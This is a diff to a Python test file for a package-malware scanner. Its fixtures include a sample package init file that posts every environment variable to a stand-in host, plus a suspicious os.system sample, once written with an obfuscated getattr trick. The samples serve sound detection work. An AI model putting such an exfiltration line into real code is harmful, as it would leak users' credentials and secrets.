@@ -17,7 +17,7 @@ from support.scan import PYTHON_RULE, a_rule_folder, a_wheel, an_sdist, the_rule
 MALICIOUS = {
     "widget/__init__.py": "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))"
 }
-SUSPICIOUS = {"widget/__init__.py": "import os\ngetattr(os, 'sys' + 'tem')('echo imitation')"}
+SUSPICIOUS = {"widget/__init__.py": "import os\nos.system('echo imitation')"}
 BENIGN = {"widget/__init__.py": "VERSION = 1\n"}
 
 
@@ -99,7 +99,7 @@ def test_sarif_is_one_log_of_all_files(folder: Path) -> None:
     result = scan(folder, "--format", "sarif")
     log = json.loads(result.stdout)
     check_log(log)
-    assert {each["ruleId"] for each in log["runs"][0]["results"]} >= {"secrets-sent", "hidden-call"}
+    assert {each["ruleId"] for each in log["runs"][0]["results"]} >= {"secrets-sent", "taken-together"}
     assert result.returncode == 1
 
 
